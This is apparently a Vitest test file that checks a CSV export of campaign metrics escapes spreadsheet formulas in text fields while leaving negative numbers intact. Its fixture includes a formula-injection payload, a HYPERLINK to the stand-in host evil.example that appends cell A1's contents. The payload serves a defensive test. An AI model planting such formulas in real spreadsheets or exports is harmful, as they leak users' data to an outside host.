// CSV export of names an imported bundle chose: formulas reach a spreadsheet as text, numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { toCsv, type MetricExportRow } from '../../../../main/campaigns/bundle/metrics-export.ts';

const row: MetricExportRow = {
  campaign: 'c',
  campaignName: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  platform: '+native',
  technology: '-cmd',
  benchmark: '@SUM(A1)',
  params: '{}',
  repetition: 0,
  nodeCount: 1,
  attempt: 1,
  run: '\tr',
  metric: 'm',
  point: 'p',
  value: -1.5,
  unit: 'u',
  better: 'lower',
};

describe('toCsv', () => {
  it('neutralises spreadsheet formulas in text fields and leaves negative numbers alone', () => {
    const line = toCsv([row]).split('\r\n')[1]!;
    expect(line).toBe(`c,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+native,'-cmd,'@SUM(A1),{},0,1,1,'\tr,m,p,-1.5,u,lower`);
  });
});
